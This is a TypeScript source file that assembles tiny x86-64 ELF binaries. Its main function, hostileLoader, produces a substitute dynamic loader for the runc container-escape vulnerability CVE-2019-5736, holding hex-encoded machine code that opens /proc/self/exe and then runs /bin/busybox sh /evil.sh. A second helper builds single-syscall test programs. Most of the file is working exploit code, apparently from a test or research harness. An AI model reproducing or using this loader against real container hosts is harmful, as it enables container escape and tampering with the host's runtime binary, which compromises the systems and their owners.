/** Where the loader is mapped; far from where programs and libraries come. */
const BASE = 0x10000000;
const ELF_HEADER_BYTES = 64;
const PROGRAM_HEADER_BYTES = 56;

/**
 * open("/proc/self/exe", O_RDONLY); execve("/bin/busybox", {"sh", "/evil.sh"}, NULL); exit(9), followed by the three
 * strings and room for the two arguments' addresses.
 */
const CODE = Buffer.from(
  'b802000000488d3d2900000031f631d20f05b83b000000488d3d26000000488d353b00000031d20f05b83c000000bf090000000f05' +
    '2f70726f632f73656c662f657865002f62696e2f62757379626f78007368002f6576696c2e7368000f1f00',
  'hex',
);
const SHELL_AT = 0x51;
const SCRIPT_AT = 0x54;

/**
 * A "dynamic loader" for x86-64 as CVE-2019-5736 needs it: put in the place of the loader that the OCI runtime asks for, it
 * is run by the kernel where somebody starts /proc/self/exe, holds the runtime's binary open and becomes a shell.
 */
export function hostileLoader(): Buffer {
  const start = BASE + ELF_HEADER_BYTES + PROGRAM_HEADER_BYTES;
  const argv = Buffer.alloc(24);
  argv.writeBigUInt64LE(BigInt(start + SHELL_AT), 0);
  argv.writeBigUInt64LE(BigInt(start + SCRIPT_AT), 8);
  return program(Buffer.concat([CODE, argv]));
}

/** A program for x86-64 that makes one system call and ends with its errno, 0 where it succeeded. */
export function systemCall(number: number, first: number, second: number): Buffer {
  const code = Buffer.from('b800000000bf00000000be0000000031d24531d20f0589c785ff7f04f7dfeb0231ffb83c0000000f05', 'hex');
  code.writeUInt32LE(number, 1);
  code.writeUInt32LE(first >>> 0, 6);
  code.writeUInt32LE(second >>> 0, 11);
  return program(code);
}

function program(code: Buffer): Buffer {
  const start = BASE + ELF_HEADER_BYTES + PROGRAM_HEADER_BYTES;
  return Buffer.concat([elfHeader(start), loadHeader(ELF_HEADER_BYTES + PROGRAM_HEADER_BYTES + code.length), code]);
}

function elfHeader(entry: number): Buffer {
  const header = Buffer.alloc(ELF_HEADER_BYTES);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(62, 18); // x86-64
  header.writeUInt32LE(1, 20);
  header.writeBigUInt64LE(BigInt(entry), 24);
  header.writeBigUInt64LE(BigInt(ELF_HEADER_BYTES), 32);
  header.writeUInt16LE(ELF_HEADER_BYTES, 52);
  header.writeUInt16LE(PROGRAM_HEADER_BYTES, 54);
  header.writeUInt16LE(1, 56);
  return header;
}

/** One segment, readable and executable, of the whole file. */
function loadHeader(sizeBytes: number): Buffer {
  const header = Buffer.alloc(PROGRAM_HEADER_BYTES);
  header.writeUInt32LE(1, 0);
  header.writeUInt32LE(5, 4);
  for (const at of [16, 24]) header.writeBigUInt64LE(BigInt(BASE), at);
  for (const at of [32, 40]) header.writeBigUInt64LE(BigInt(sizeBytes), at);
  header.writeBigUInt64LE(0x1000n, 48);
  return header;
}
